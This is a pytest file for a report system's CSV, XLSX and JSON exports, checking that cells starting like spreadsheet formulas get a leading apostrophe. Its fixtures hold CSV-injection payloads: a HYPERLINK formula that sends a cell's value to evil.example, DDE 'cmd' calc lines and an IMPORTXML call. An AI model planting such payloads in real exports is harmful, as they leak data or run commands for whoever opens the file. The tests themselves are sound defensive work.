"""Exports that cannot run code: text a spreadsheet would read as a formula ("=", "+", "-", "@", tab, CR) is
written with a leading apostrophe in the report's CSV and in every sheet of its XLSX, as in the registry's
exports; numbers stay numbers; the JSON keeps the raw text."""
import csv
import io
import json
from datetime import datetime, timezone

import pytest
from openpyxl import load_workbook

from monitor.reports.csv_table import to_csv
from monitor.reports.json_data import to_json
from monitor.reports.periods import Period
from monitor.reports.report import build_report
from monitor.reports.xlsx import to_xlsx
from registry.appendix import export_csv
from registry.cells import FORMULA_START, neutralise

from .report_fixtures import build_june, make_office_unit

JUNE = Period.month(2025, 6)
NOW = datetime(2025, 7, 2, 3, 0, tzinfo=timezone.utc)
NAMES = {"SYT": '=HYPERLINK("http://evil.example/?q="&A1,"Sở Y tế")', "XMA": "@SUM(1)", "OFF": "+cmd|' /C calc'!A0"}
HEARD = "-2+3+cmd|' /C calc'!A0"
EXPLANATION = "=1+2"
REASON = "@IMPORTXML(\"http://evil.example\")"


@pytest.fixture
def report(db, units, inspector):
    """June of tests/report_fixtures.py with hostile unit names, a transcript, a dispute and a review reason."""
    office = make_office_unit(db)
    ids = build_june(db, units, office)
    for code, name in NAMES.items():
        db.execute("UPDATE units SET name = ? WHERE code = ?", [name, code])
    db.execute("UPDATE attempts SET transcript = ? WHERE id = ?", [HEARD, ids[3]])
    db.execute("INSERT INTO outcome_reviews (attempt_id, at, user_id, old_outcome, new_outcome, reason) "
               "VALUES (?, '2025-06-12T02:00:00.000Z', ?, 'no_answer', 'redirected', ?)", [ids[7], inspector["id"], REASON])
    off_call = db.execute("SELECT id FROM attempts WHERE unit_id = ? AND purpose = 'scheduled' ORDER BY id",
                          [office]).fetchone()[0]
    db.execute("INSERT INTO disputes (attempt_id, unit_id, opened_at, explanation) "
               "VALUES (?, ?, '2025-06-05T01:00:00.000Z', ?)", [off_call, office, EXPLANATION])
    return build_report(db, JUNE, now=NOW)


def test_the_shared_neutraliser_quotes_formula_text_and_leaves_numbers_alone():
    for start in FORMULA_START:
        assert neutralise(start + "x") == "'" + start + "x"
    assert neutralise("+84 277 3851 234") == "'+84 277 3851 234"  # reads as the number it is, as text
    assert neutralise("Sở Y tế") == "Sở Y tế" and neutralise("") == ""
    assert neutralise(-3.5) == -3.5 and neutralise(-2) == -2 and neutralise(None) is None


WHOLE_CELLS = [*NAMES.values(), HEARD]  # values that are a cell of their own (the others are quoted inside one)


def _is_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


def test_csv_neutralises_every_cell_that_starts_like_a_formula(report):
    rows = list(csv.reader(io.StringIO(to_csv(report).decode("utf-8-sig"))))
    cells = [cell for row in rows for cell in row if cell]
    assert not [c for c in cells if c.startswith(FORMULA_START) and not _is_number(c)], "a cell a spreadsheet would run"
    assert any(c.startswith("-") and _is_number(c) for c in cells), "a negative change stays a number"
    for value in WHOLE_CELLS:
        assert "'" + value in cells, value


def test_every_xlsx_sheet_holds_such_text_as_text_never_as_a_formula(report):
    book = load_workbook(io.BytesIO(to_xlsx(report)))
    seen, numbers = set(), 0
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    assert not cell.value.startswith(FORMULA_START), (sheet.title, cell.coordinate, cell.value)
                    seen.update((sheet.title, v) for v in WHOLE_CELLS if cell.value == "'" + v)
                elif isinstance(cell.value, (int, float)):
                    numbers += 1
    assert numbers > 50  # rates, counts and seconds are still numbers a spreadsheet can sum
    assert {("Xếp hạng", v) for v in NAMES.values()} <= seen
    assert {("Nhóm A", NAMES["SYT"]), ("Nhóm C", NAMES["XMA"]), ("Nhóm B", NAMES["OFF"])} <= seen
    assert ("Chưa đạt", NAMES["SYT"]) in seen and ("Bằng chứng", HEARD) in seen


def test_json_keeps_the_raw_text(report):
    data = json.loads(to_json(report))
    names = {u["code"]: u["name"] for u in data["league"]}
    assert names == NAMES
    text = json.dumps(data, ensure_ascii=False)
    assert "'" + NAMES["SYT"].replace('"', '\\"') not in text
    assert HEARD in text


def test_the_registry_export_uses_the_same_neutraliser(db, units):
    db.execute("UPDATE units SET name = ? WHERE code = 'SYT'", [NAMES["SYT"]])
    rows = list(csv.reader(io.StringIO(export_csv(db).decode("utf-8-sig"))))
    assert neutralise(NAMES["SYT"]) in [cell for row in rows for cell in row]
